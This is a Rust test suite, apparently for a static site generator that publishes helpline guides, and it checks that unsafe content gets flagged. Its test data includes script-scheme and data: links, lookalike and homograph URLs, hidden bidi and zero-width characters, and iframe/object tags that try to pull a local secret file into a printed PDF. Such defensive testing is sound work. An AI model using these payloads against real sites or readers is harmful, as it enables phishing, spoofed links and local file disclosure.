        "https://xn--80ak6aa92e.com/",
        "https://exa\\u00admple.org/",
        "https://example\\u3002org/",
        "https://example.org:99999/",
        "https://good.org%2eevil.org/",
        "https://good.org⁄x.evil.org/",
        "https://good.org∕x.evil.org/",
        "https://good.org⧸x.evil.org/",
        "https://good.org⟋x.evil.org/",
        "https://good.org？x.evil.org/",
        "https://good.org♯x.evil.org/",
    ] {
        let facts = helpline(&format!("  - {{type: web, url: \"{url}\"}}\n"));
        let sample = Sample::new().file("content/helplines/line/facts.yaml", &facts).text(
            "content/helplines/line/sq.md",
            "Linja",
            "",
        );
        sample.check().are_about("bad-value", "content/helplines/line/facts.yaml");
    }
    for link in [
        "https://wa.me/355691234567",
        "https://api.whatsapp.com/send?phone=355691234567",
        "https://wa.me/+355-69-1234567",
        "https://t.me/+355691234567",
        "https://signal.me/#p/+355691234567",
        "tel:+355691234567",
        "sms:112?body=x",
    ] {
        let sample =
            Sample::new().text("content/guides/first/sq.md", "I pari", &format!("[a]({link})\n"));
        sample.check().are_about("call-link", "content/guides/first/sq.md");
    }
}

#[test]
fn links_that_run_or_leave() {
    for link in [
        "[a](JaVaScRiPt:a)",
        "[a](java&#x09;script:a)",
        "[a](<java\tscript:a>)",
        "[a](data:text/html,a)",
        "[a](vbscript:a)",
        "[a](//evil.org)",
        "[a](\\\\\\\\evil.org)",
        "[a](/\\\\evil.org)",
        "[a](https:evil.org)",
        "[a](https://u:p@e.org/)",
        "[a](https://аррӏе.com)",
        "<https://u@e.org>",
        "[a][b]\n\n[b]: <vbscript:a>",
        "[a](intent://a#Intent;scheme=tel;end)",
        "![a](data:image/svg+xml,a)",
    ] {
        let sample =
            Sample::new().text("content/guides/first/sq.md", "I pari", &format!("{link}\n"));
        sample.check().are_about("dead-link", "content/guides/first/sq.md");
    }
}

#[test]
fn numbers_in_addresses_of_any_host_are_findings() {
    for address in [
        "https://chat.example/+355691234567",
        "https://vb.me/%2B355%2069%20123%204567",
        "https://app.example/u/+373-22-123-456/",
        "https://app.example/#/chat/+40721555000",
        "https://app.example/?to=+380441234567",
        "https://wa.me/355691234567",
    ] {
        let text = format!("[Shkruaj]({address})\n");
        let sample = Sample::new().text("content/guides/first/sq.md", "I pari", &text);
        sample.check().are_about("call-link", "content/guides/first/sq.md");
    }
    for address in [
        "https://example.org/?q=a+b+2026",
        "https://example.org/+20261128",
        "https://example.org/+1000",
    ] {
        let text = format!("[Lexo]({address})\n");
        let sample = Sample::new().text("content/guides/first/sq.md", "I pari", &text);
        assert!(!sample.check().lines().contains("call-link"), "{address}");
    }
}

#[test]
fn numbers_in_the_facts_of_a_page_are_findings() {
    let with = |folder: &str, facts: &str| {
        let files = [format!("content/{folder}/a/facts.yaml"), format!("content/{folder}/a/sq.md")];
        Sample::new().file(&files[0], facts).text(&files[1], "A", "")
    };
    let poster =
        |line: &str| with("posters", &format!("code: 704\nleads_to: guides/first\n{line}\n"));
    let source = |words: &str| with("guides", &format!("sources:\n  - {words}\n"));
    for sample in [
        poster("place: mur, thirr 069 123 4567"),
        poster("place: \"+355 69 123 4567\""),
        poster("place: wall of 0035569123456"),
        poster("place: mur\nsources: [{title: {sq: thirr 129}}]"),
        source("{title: {sq: \"Zyra, tel. 04 222 3344\"}}"),
        source("{title: {sq: \"Raport\"}, supports: {sq: \"numri 116 000\"}}"),
        with("regions", "municipalities: [\"Tirana 042223344\"]\n"),
    ] {
        let lines = sample.check().lines();
        assert!(lines.contains("/a/facts.yaml:") && lines.contains("[number-in-prose]"), "{lines}");
    }
    for sample in [
        poster("place: mur\norder: 112"),
        source("{title: {sq: \"Numri 112 në Shqipëri\"}, supports: {sq: \"thirr 112\"}}"),
        poster("place: Rruga 2026, kati 3, 1001 Tirana"),
        source("{title: {sq: \"Ligji 9887/2021, i ndryshuar më 01.12.2026\"}}"),
        source("{title: {sq: \"Të dhëna 2019-2024: 1 234 567 banorë\"}}"),
    ] {
        let lines = sample.check().lines();
        assert!(!lines.contains("[number-in-prose]"), "{lines}");
    }
}

#[test]
fn two_numbers_around_a_slash_are_two() {
    for text in ["112/129", "thirr 129/112", "127/112/128", "thirr 112/128 ose 129"] {
        let sample =
            Sample::new().text("content/guides/first/sq.md", "I pari", &format!("{text}\n"));
        let lines = sample.check().lines();
        assert!(lines.contains("phone number 112 is typed"), "{text}: {lines}");
    }
    let facts = helpline("  - {type: voice, number: \"116111\"}\n");
    let sample = Sample::new()
        .file("content/helplines/line/facts.yaml", &facts)
        .text("content/helplines/line/sq.md", "Linja", "")
        .text("content/guides/first/sq.md", "I pari", "Numri 116/111.\n");
    let lines = sample.check().lines();
    assert!(lines.contains("number 116 111 is typed"), "{lines}");
}

#[test]
fn texts_of_a_later_day_are_checked_today() {
    let later =
        |day: &str, body: &str| format!("---\ntitle: Pas\npublish_on: {day}\n---\n{body}\n");
    for (body, code) in [
        ("[x](../nothing/sq.md)", "dead-link"),
        ("[x](helpline:nobody)", "unknown-helpline"),
        ("![](picture.png)", "dead-link"),
        ("<b>x</b>", "raw-html"),
        ("Thirr 069 123 4567.", "number-in-prose"),
        ("[x](tel:069123)", "call-link"),
    ] {
        let folder =
            Sample::new().file("content/guides/later/sq.md", &later("2026-12-01", body)).write();
        let outcome = folder.fener(&["check"]);
        assert_eq!(outcome.code, Some(0), "{body}: {outcome:?}");
        let expected = format!("warning[{code}]");
        assert!(outcome.stderr.contains(&expected), "{body}: {outcome:?}");
        assert!(outcome.stderr.contains("(from 2026-12-01 on)"), "{body}: {outcome:?}");
        assert!(outcome.stderr.contains("content/guides/later/sq.md:"), "{body}: {outcome:?}");
        assert_eq!(folder.fener(&["check", "--strict"]).code, Some(1), "{body}");
        // The build of an unattended day goes on, and is not longer for it.
        let built = folder.fener(&["build"]);
        assert_eq!(built.code, Some(0), "{body}: {built:?}");
        assert!(!built.stderr.contains("on)"), "{body}: {built:?}");
    }
    // A link to a text of a later day is dead on the day between.
    let folder = Sample::new()
        .file("content/guides/later/sq.md", &later("2026-12-01", "[x](../last/sq.md)"))
        .file("content/guides/last/sq.md", &later("2026-12-24", "x"))
        .write();
    let outcome = folder.fener(&["check"]);
    assert!(outcome.stderr.contains("2026-12-24) (from 2026-12-01 on)"), "{outcome:?}");
    let folder =
        Sample::new().file("content/guides/later/sq.md", &later("2026-12-01", "Fjalë.")).write();
    let outcome = folder.fener(&["check"]);
    let others = outcome.stderr.matches("warning[").count();
    assert_eq!(
        (outcome.stderr.matches("missing-translation").count(), others),
        (1, 1),
        "{outcome:?}"
    );
    // A draft has no day.
    let draft = later("2026-12-01", "[x](../nothing/sq.md)")
        .replace("publish_on", "draft: true\npublish_on");
    let folder = Sample::new().file("content/guides/later/sq.md", &draft).write();
    assert!(!folder.fener(&["check"]).stderr.contains("on)"));
}

#[test]
fn typed_numbers_in_any_writing_are_findings() {
    for number in [
        "٠٦٩١٢٣٤٥٦٧",
        "０６９ １２３ ４５６７",
        "०६९ १२३ ४५६७",
        "𝟎𝟔𝟗𝟏𝟐𝟑𝟒𝟓𝟔𝟕",
        "𝟶𝟼𝟿 𝟷𝟸𝟹 𝟺𝟻𝟼𝟽",
        "`069 123 4567`",
        "069.123.45.67",
        "069\u{a0}123\u{a0}4567",
        "**069** 123 4567",
        "+355 69 123 4567",
    ] {
        let text = format!("Linja {number} hap.\n");
        let sample = Sample::new().text("content/guides/first/sq.md", "I pari", &text);
        let lines = sample.check().lines();
        assert!(lines.contains("[number-in-prose]"), "{number}: {lines}");
    }
}

#[test]
fn letters_that_no_reviewer_sees() {
    for text in [
        "---\ntitle: \"Call \\u202e211\\u202c\"\n---\nx\n",
        "---\ntitle: A\n---\nIn danger \u{202e}211\u{202c} first.\n",
        "---\ntitle: A\n---\n1\u{200b}12\n",
        "---\ntitle: A\n---\n1&#x200b;12 &#8238;a\n",
        "---\ntitle: A\n---\n112\u{e0041}\n",
        "---\ntitle: A\n---\na&#0;b &#xFDD0;\n",
        "---\ntitle: A\n---\n[x\u{2067}](https://example.org)\n",
        "---\ntitle: \"1\u{200d}12\"\n---\nx\n",
        "---\ntitle: A\ndescription: \"x\\u3164\"\n---\nx\n",
        "---\ntitle: A\nkeywords: [\"x\u{2800}y\"]\n---\nx\n",
        "---\ntitle: A\nslug: \"x\u{2060}y\"\n---\nx\n",
        "---\ntitle: A\n---\n![x\u{e0041}](x.png)\n",
        "---\ntitle: A\n---\n`1\u{34f}12`\n",
        "---\ntitle: A\n---\na\u{2028}b\n",
    ] {
        let sample = Sample::new().file("content/guides/first/sq.md", text);
        sample.check().are_about("hidden-letter", "content/guides/first/sq.md");
    }
    let facts = helpline("  - {type: voice, number: \"116\\u200b111\"}\n");
    let sample = Sample::new().file("content/helplines/line/facts.yaml", &facts).text(
        "content/helplines/line/sq.md",
        "Linja",
        "",
    );
    sample.check().are_about("hidden-letter", "content/helplines/line/facts.yaml");
    let sample = Sample::new().file("locales/sq.ftl", "menu = Me\u{202e}nu\n");
    sample.check().are_about("hidden-letter", "locales/sq.ftl");
    let sample = Sample::new().setting("# \u{2066}");
    sample.check().are_about("hidden-letter", "fener.yaml");
}

#[test]
fn a_register_that_lost_its_posters() {
    let folder = Sample::new()
        .text("content/posters/p/sq.md", "P", "x\n")
        .text("content/posters/p/en.md", "P", "x\n")
        .file(
            "content/posters/p/facts.yaml",
            "code: \"704\"\nplace: x\nleads_to: guides/first\nhelplines: [emergency]\n",
        )
        .write();
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    let whole = support::text_of(&folder.path().join("posters.lock"));
    std::fs::remove_dir_all(folder.path().join("content/posters")).expect("a folder");
    let lines: Vec<&str> = whole.lines().collect();
    let last = lines[lines.len() - 1];
    let conflict = format!("<<<<<<< HEAD\n{whole}=======\n{whole}>>>>>>> other\n");
    let entry =
        &whole[whole.find("  - code").expect("an entry")..whole.find(last).expect("an end")];
    for damaged in [
        String::new(),
        "\n\n".to_owned(),
        "# Every poster code\n".to_owned(),
        "posters: []\n".to_owned(),
        "posters:\n".to_owned(),
        "null\n".to_owned(),
        "\0".repeat(whole.len()),
        lines[..3].join("\n"),
        lines[..lines.len() - 1].join("\n"),
        whole[..whole.len() - 3].to_owned(),
        whole[whole.len() / 2..].to_owned(),
        format!("posters: []\n{last}"),
        format!("{last}\n"),
        format!("{last}\n{}", lines[..lines.len() - 1].join("\n")),
        whole.replace(last, "# End: 0 posters, checksum e3b0c44298fc1c14"),
        whole.replace(last, &format!("{entry}{last}")),
        whole.replace("code: \"704\"", "code: \"705\""),
        whole.replace("guides/first", "guides/other"),
        whole.replace(last, &format!("{last} ")),
        format!("{whole}{whole}"),
        format!("{whole}x: 1\n"),
        format!("{whole}# a note\n"),
        whole.replacen('\n', "\n\n", 1),
        whole.to_uppercase(),
        conflict,
    ] {
        folder.put("posters.lock", damaged.as_bytes());
        let outcome = folder.fener(&["build"]);
        assert_eq!(outcome.code, Some(1), "{damaged}\n{outcome:?}");
        assert!(outcome.stderr.contains("error[yaml]"), "{damaged}\n{outcome:?}");
        assert!(folder.path().join("public/704/index.html").exists(), "{damaged}");
        assert_eq!(support::text_of(&folder.path().join("posters.lock")), damaged);
    }
    // The whole file is missing: git is the only witness, unless the removal is meant.
    folder.remove("posters.lock");
    let entry_of = |path: &str| {
        let head = b"DIRC\0\0\0\x02\0\0\0\x01";
        [&head[..], &[7; 60], b"\0\x0c", path.as_bytes(), &[0; 8]].concat()
    };
    folder.put(".git/index", &entry_of("posters.lock"));
    for command in ["check", "build"] {
        let outcome = folder.fener(&[command]);
        assert!(outcome.stderr.contains("error[unreadable]: file missing"), "{outcome:?}");
        assert_eq!(outcome.code, Some(1), "{outcome:?}");
        assert!(folder.path().join("public/704/index.html").exists());
    }
    folder.put(".git/index", &entry_of("poster2.lock"));
    assert_eq!(folder.fener(&["check"]).code, Some(0));
    // The old site is a witness, too, until it is gone.
    for has_index in [true, false] {
        let outcome = folder.fener(&["build"]);
        assert_eq!(outcome.code, Some(1), "{outcome:?}");
        assert!(outcome.stderr.contains("1 code missing that the site in"), "{outcome:?}");
        assert!(folder.path().join("public/704/index.html").exists());
        assert!(!folder.path().join("posters.lock").exists());
        if has_index {
            folder.remove(".git/index");
        }
    }
    std::fs::remove_dir_all(folder.path().join("public")).expect("a folder");
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    assert!(!folder.path().join("public/704").exists());
    for text in [whole.replace('\n', "\r\n"), whole.trim_end().to_owned(), format!("{whole}\n")] {
        folder.put("posters.lock", text.as_bytes());
        assert_eq!(folder.fener(&["build"]).code, Some(0), "{text:?}");
        assert!(folder.path().join("public/704/index.html").exists());
    }
    // Two merged registers, whose last line was written by hand as the finding says.
    folder.put("posters.lock", whole.replace(last, &format!("{entry}{last}")).as_bytes());
    let told = folder.fener(&["check"]).stderr;
    let expected = told.split('`').find(|part| part.starts_with("# End: 2")).expect("a last line");
    let twice = whole.replace(last, &format!("{entry}{expected}"));
    folder.put("posters.lock", twice.as_bytes());
    let outcome = folder.fener(&["build"]);
    assert!(outcome.stderr.contains("code 704 is listed twice"), "{outcome:?}");
}

/// Two versions of one file, with the same length.
struct Versions {
    path: &'static str,
    old: Vec<u8>,
    new: Vec<u8>,
}

/// A campaign with files of each kind, and a second version of each.
fn versions() -> (Sample, Vec<Versions>) {
    let of = |path, old: &[u8], new: &[u8]| {
        assert_eq!(old.len(), new.len(), "{path}");
        Versions { path, old: old.to_vec(), new: new.to_vec() }
    };
    let picture = |color: u8| {
        let pixels = image::RgbImage::from_pixel(40, 30, image::Rgb([color, 9, 9]));
        let mut png = std::io::Cursor::new(Vec::new());
        pixels.write_to(&mut png, image::ImageFormat::Png).expect("a picture");
        png.into_inner()
    };
    let facts = |number: &str| helpline("").replace("116006", number).into_bytes();
    let long = |letter: u8| [b"%PDF-1.7\n".to_vec(), vec![letter; 2_000_000]].concat();
    let guide = "![Një rrugë](x.png)\n\n![Një vizatim](y.svg)\n\n[Fletë](z.pdf)\n";
    let sample = Sample::new().text("content/guides/first/sq.md", "I pari", guide).text(
        "content/helplines/line/sq.md",
        "Linja",
        "",
    );
    let all = vec![
        of("content/sq.md", b"---\ntitle: Rruga\n---\n", b"---\ntitle: Udha1\n---\n"),
        of("content/helplines/line/facts.yaml", &facts("+355691111111"), &facts("+355692222222")),
        of("content/guides/first/x.png", &picture(100), &picture(200)),
        of(
            "content/guides/first/y.svg",
            drawing("<rect width=\"1\" height=\"1\"/>").as_bytes(),
            drawing("<rect width=\"2\" height=\"2\"/>").as_bytes(),
        ),
        of("content/guides/first/z.pdf", &long(b'A'), &long(b'B')),
        of("static/humans.txt", b"Team: a\n", b"Team: b\n"),
        of("locales/sq.ftl", b"menu = Menuja\n", b"menu = Lista1\n"),
        of("themes/fener/css/fener.css", b"body{margin:1px}", b"body{margin:2px}"),
    ];
    let sample = all.iter().fold(sample, |sample, file| sample.bytes(file.path, &file.old));
    (sample, all)
}

#[test]
fn a_version_unpacked_with_its_old_times_is_noticed() {
    let (sample, all) = versions();
    let folder = sample.write();
    let old = "find . -type f -exec touch -d @1700000000 {} +";
    folder.sh(old);
    assert_eq!(folder.fener(&["build"]).code, Some(0));
    let mut last = folder.files("public");
    for file in &all {
        // The same size, time and inode; then a new inode.
        folder.put(file.path, &file.new);
        folder.sh(old);
        assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
        let site = folder.files("public");
        assert!(site != last, "{} is not noticed", file.path);
        folder.remove(file.path);
        folder.put(file.path, &file.old);
        folder.sh(old);
        assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
        assert!(folder.files("public") != site, "{} is not noticed", file.path);
        last = folder.files("public");
    }
}

#[test]
fn a_file_that_changes_during_a_build_is_published_whole_or_not_at_all() {
    let (sample, all) = versions();
    let folder = sample.write();
    for file in &all {
        // Every file of the site as it is with each version, built in peace.
        let mut sites = Vec::new();
        for bytes in [&file.old, &file.new] {
            folder.put(file.path, bytes);
            assert_eq!(folder.fener(&["build"]).code, Some(0), "{}", file.path);
            sites.push(folder.files("public"));
        }
        folder.put("old", &file.old);
        folder.put("new", &file.new);
        folder.sh("touch -d 2026-01-01 old new");
        // There is a file at this path at any time.
        let path = file.path;
        let swap = format!("cp -p old next; mv -f next {path}; cp -p new next; mv -f next {path}");
        let outcome = folder.sh(&format!(
            "\"$fener\" build --no-sync --date 2026-11-22 & while kill -0 $! 2>/dev/null; do {swap}; done; wait $!"
        ));
        assert!(matches!(outcome.code, Some(0 | 1)), "{path}: {outcome:?}");
        let new = folder.files("public");
        for (name, bytes) in &new {
            let is_known = sites.iter().any(|site| site.get(name) == Some(bytes));
            assert!(is_known, "{path}: {name} is of no version");
        }
        folder.put(path, &file.old);
    }
}

#[test]
fn numbers_and_days_that_cannot_be() {
    let facts = helpline("  - {type: voice, number: \"+355 (0)69 1234567\"}\n");
    let site = Sample::new()
        .file("content/helplines/line/facts.yaml", &facts)
        .text("content/helplines/line/sq.md", "Linja", "")
        .build();
    assert!(site.pages().all(|(_, page)| !page.contains("tel:+3550")));
    let line = |facts: &str| {
        let sample = Sample::new().file("content/helplines/line/facts.yaml", facts);
        sample.text("content/helplines/line/sq.md", "Linja", "").check()
    };
    for ages in ["maximum_age: 200", "maximum_age: 121", "minimum_age: 150", "maximum_age: 255"] {
        let findings = line(&format!("{}{ages}\n", helpline("")));
        findings.are_about("bad-value", "content/helplines/line/facts.yaml");
    }
    for number in ["+999 123 4567", "+999999999", "+210 123 45678", "+296 12 3456", "+1(0) 999"] {
        let findings = line(&helpline("").replace("116006", number));
        findings.are_about("bad-number", "content/helplines/line/facts.yaml");
    }
    let facts = helpline("").replace("2026-11-01", "2062-11-01");
    let sample = Sample::new().file("content/helplines/line/facts.yaml", &facts).text(
        "content/helplines/line/sq.md",
        "Linja",
        "",
    );
    sample.check().are_about("bad-date", "content/helplines/line/facts.yaml");
}

#[test]
fn addresses_of_the_site_that_no_reader_can_open() {
    for address in [
        "https://x.ngrok.io/",
        "https://a-b.trycloudflare.com/c/",
        "https://10-0-0-5.nip.io/",
        "https://your-domain.org/",
        "https://yourproject.netlify.app/",
        "http://localhost:4000/",
    ] {
        let sample = Sample::new().replace("fener.yaml", "https://example.org/c/", address);
        let findings = sample.check().lines();
        assert!(findings.contains("warning[base-url-placeholder]"), "{address}: {findings}");
    }
    let sample = Sample::new().replace("fener.yaml", "https://example.org/c/", "https://rruga.al/");
    sample.check().are([]);
}

#[test]
fn a_build_is_on_the_disk_before_it_is_published() {
    let folder = Sample::new().write();
    if folder.sh("strace -V").code != Some(0) {
        // Without strace the order of calls cannot be seen; `write::tests` has the rest.
        return;
    }
    let trace = "strace -f -e trace=fsync,fdatasync,syncfs,rename,renameat,renameat2 -o trace";
    let build = |more: &str| {
        let outcome = folder.sh(&format!("{trace} \"$fener\" build --date 2026-11-22 {more}"));
        assert_eq!(outcome.code, Some(0), "{outcome:?}");
        support::text_of(&folder.path().join("trace"))
    };
    build("");
    let trace = build("");
    let at = |call: &str| trace.find(call).unwrap_or_else(|| panic!("no {call}\n{trace}"));
    let exchange = at("RENAME_EXCHANGE");
    assert!(at("syncfs(") < exchange, "{trace}");
    assert!(trace[exchange..].contains("fsync("), "{trace}");
    assert!(!build("--no-sync").contains("sync("));
}

/// The number of pieces of text in a PDF that Chromium has made.
fn text_pieces(pdf: &[u8]) -> usize {
    let find = |from: usize, wanted: &[u8]| {
        pdf[from..].windows(wanted.len()).position(|part| part == wanted).map(|at| from + at)
    };
    let (mut from, mut pieces) = (0, 0);
    while let Some(start) = find(from, b"stream\n") {
        from = find(start, b"endstream").unwrap_or(pdf.len());
        let mut content = Vec::new();
        let mut decoder = flate2::read::ZlibDecoder::new(&pdf[start + 7..from]);
        if std::io::Read::read_to_end(&mut decoder, &mut content).is_ok() {
            pieces += content.windows(2).filter(|part| matches!(*part, b"Tj" | b"TJ")).count();
        }
        from += 9;
    }
    pieces
}

#[test]
fn a_printed_sheet_shows_nothing_of_the_computer() {
    let folder = Sample::new()
        .file("content/posters/p/facts.yaml", "code: 704\nplace: mur\nleads_to: guides/first\n")
        .text("content/posters/p/sq.md", "Pyet", "Pyet para se të nisesh.\n")
        .write();
    let secret = Folder::new();
    secret.put("secret", b"TOP SECRET FILE");
    let print = |sheet: &str| {
        folder.put("themes/fener/templates/poster-sheet.html", sheet.as_bytes());
        let _ = std::fs::remove_dir_all(folder.path().join("print"));
        let outcome = folder.sh("\"$fener\" posters --pdf --languages sq --date 2026-11-22");
        let pdf = folder.files("print").into_iter().find(|(path, _)| path.ends_with("A4.pdf"));
        match pdf {
            Some((_, pdf)) => Some(text_pieces(&pdf)),
            // Without a browser there is nothing to print with, and Fener says so.
            None => {
                assert!(outcome.stderr.contains("no Chromium, Chrome or Edge"), "{outcome:?}");
                None
            }
        }
    };
    let sheet = |inside: &str| {
        format!(
            "{{% include \"paper-top.html\" %}}<main><p>{{{{ title }}}}</p></main>{inside}</body></html>"
        )
    };
    let Some(plain) = print(&sheet("")) else { return };
    assert!(plain > 0);
    let file = format!("file://{}/secret", secret.path().display());
    for inside in [
        format!("<iframe src=\"{file}\" width=500 height=200></iframe>"),
        format!("<meta http-equiv=\"refresh\" content=\"0;url={file}\">"),
        format!("<object data=\"{file}\" width=500 height=200></object>"),
        format!("<embed src=\"{file}\" width=500 height=200>"),
        "<script>document.body.textContent = 'a b c d e f g h'.repeat(99)</script>".to_owned(),
    ] {
        assert_eq!(print(&sheet(&inside)), Some(plain), "{inside}");
    }
}

#[test]
fn a_printed_sheet_that_is_no_pdf_is_not_kept() {
    let folder = Sample::new()
        .file("content/posters/p/facts.yaml", "code: 704\nplace: mur\nleads_to: guides/first\n")
        .text("content/posters/p/sq.md", "Pyet", "Pyet para se të nisesh.\n")
        .write();
    let print = |written: &str| {
        let script = format!(
            "#!/bin/sh\nfor a in \"$@\"; do case $a in --print-to-pdf=*) printf '{written}' >\"${{a#*=}}\";; esac; done\n"
        );
        folder.put("browser", script.as_bytes());
        folder.sh("chmod +x browser && \"$fener\" posters --pdf --browser ./browser --languages sq --date 2026-11-22")
    };
    let whole = print("%%PDF-1.4\\n%%%%EOF\\n");
    assert_eq!(whole.code, Some(0), "{}", whole.stderr);
    let printed = folder.files("print");
    for written in ["", "<p>", "%%PDF-1.4", "%%%%EOF"] {
        let outcome = print(written);
        assert_eq!(outcome.code, Some(2), "{written}: {}", outcome.stderr);
        assert!(outcome.stderr.contains("it wrote no whole PDF"), "{}", outcome.stderr);
        assert!(folder.files("print") == printed, "{written}");
    }
}
